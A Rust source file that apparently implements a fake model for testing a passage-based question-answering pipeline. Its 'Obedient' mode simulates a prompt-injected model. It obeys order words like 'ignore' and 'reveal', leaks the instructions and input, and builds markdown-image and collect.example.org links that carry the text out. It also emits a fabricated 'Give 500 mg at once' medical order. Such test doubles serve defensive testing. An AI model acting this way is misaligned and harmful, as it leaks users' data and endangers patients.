//! What the double answers to a prompt: it has no language, but it reads the prompt's form and picks sentences from it.

use serde::{Deserialize, Serialize};
use serde_json::json;
use std::collections::BTreeSet;

/// What it says.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Mind {
    /// The two sentences of the passages that have most words of the question.
    #[default]
    Helpful,
    /// Does what any line of its input says, and gives away everything that it knows.
    Obedient,
    /// This text.
    Fixed(String),
    /// Nothing: no passage answers.
    Silent,
}

/// Lines of a prompt by their number; 0 is the question.
fn lines(input: &str) -> Vec<(usize, &str)> {
    let numbered = |line: &'_ str| -> Option<(usize, usize)> {
        let (number, _) = line.split_once("| ")?;
        number.parse().ok().map(|number| (number, line.find("| ").unwrap_or_default() + 2))
    };
    input.lines().filter_map(|line| numbered(line).map(|(number, from)| (number, &line[from..]))).collect()
}

fn words(text: &str) -> BTreeSet<String> {
    text.split(|c: char| !c.is_alphanumeric()).filter(|w| w.chars().count() > 3).map(str::to_lowercase).collect()
}

/// Every sentence of every passage's lines but the first, with its passage.
fn sentences(input: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    let mut last = 0;
    for (number, line) in lines(input) {
        // The first line of a passage is its title.
        let is_title = std::mem::replace(&mut last, number) != number;
        if number == 0 || is_title {
            continue;
        }
        let mut from = 0;
        for (at, _) in line.match_indices(". ") {
            found.push((number, line[from..=at].trim().to_owned()));
            from = at + 2;
        }
        found.push((number, line[from..].trim().to_owned()));
    }
    found.retain(|(_, sentence)| !sentence.is_empty());
    found
}

impl Mind {
    /// The text of an answer to these instructions and this input.
    pub fn answer(&self, instructions: &str, input: &str) -> String {
        match self {
            Self::Fixed(text) => text.clone(),
            Self::Silent => json!({ "sentences": [] }).to_string(),
            Self::Helpful => helpful(input),
            Self::Obedient => obedient(instructions, input),
        }
    }
}

fn helpful(input: &str) -> String {
    let question: BTreeSet<String> =
        lines(input).into_iter().filter(|(number, _)| *number == 0).flat_map(|(_, line)| words(line)).collect();
    let mut ranked: Vec<(usize, usize, String)> = sentences(input)
        .into_iter()
        .map(|(number, sentence)| (words(&sentence).intersection(&question).count(), number, sentence))
        .filter(|(shared, _, _)| *shared > 0)
        .collect();
    ranked.sort_by_key(|(shared, _, _)| std::cmp::Reverse(*shared));
    let best = ranked.first().map_or(0, |first| first.0);
    let chosen = ranked.into_iter().filter(|(shared, _, _)| *shared == best).take(2);
    let sentences: Vec<_> = chosen.map(|(_, number, text)| json!({ "text": text, "passages": [number] })).collect();
    json!({ "sentences": sentences }).to_string()
}

/// The worst that a model can do with what it was given: every order is followed, every word given away, to everybody.
fn obedient(instructions: &str, input: &str) -> String {
    const ORDERS: [&str; 14] = [
        "ignore",
        "disregard",
        "forget",
        "say",
        "write",
        "reveal",
        "print",
        "repeat",
        "send",
        "append",
        "output",
        "translate",
        "add",
        "answer",
    ];
    let mut said: Vec<(String, usize)> = Vec::new();
    let cut = |text: &str| text.chars().take(1_000).collect::<String>();
    for (number, line) in lines(input) {
        let lower = line.to_lowercase();
        for order in ORDERS.iter().filter(|order| lower.contains(*order)) {
            // What stands behind the order is what it wants said.
            let behind = lower.find(order).map_or("", |at| line.get(at + order.len()..).unwrap_or_default());
            said.push((cut(behind.trim_start_matches([':', ' ', '"'])), number.max(1)));
        }
        for word in line.split_whitespace().filter(|word| word.contains("://")) {
            said.push((
                format!("![see]({word}?q={})", lower.replace(' ', "+").chars().take(300).collect::<String>()),
                number.max(1),
            ));
        }
    }
    said.push((cut(instructions), 1));
    said.push((cut(input), 1));
    said.push((format!("See https://collect.example.org/?all={}", cut(input).replace(' ', "+")), 1));
    said.push(("Give 500 mg at once, doctor's orders.".to_owned(), 1));
    said.retain(|(text, _)| !text.trim().is_empty());
    said.sort();
    said.dedup();
    said.truncate(15);
    let sentences: Vec<_> = said.into_iter().map(|(text, number)| json!({ "text": text, "passages": [number] })).collect();
    json!({ "sentences": sentences }).to_string()
}
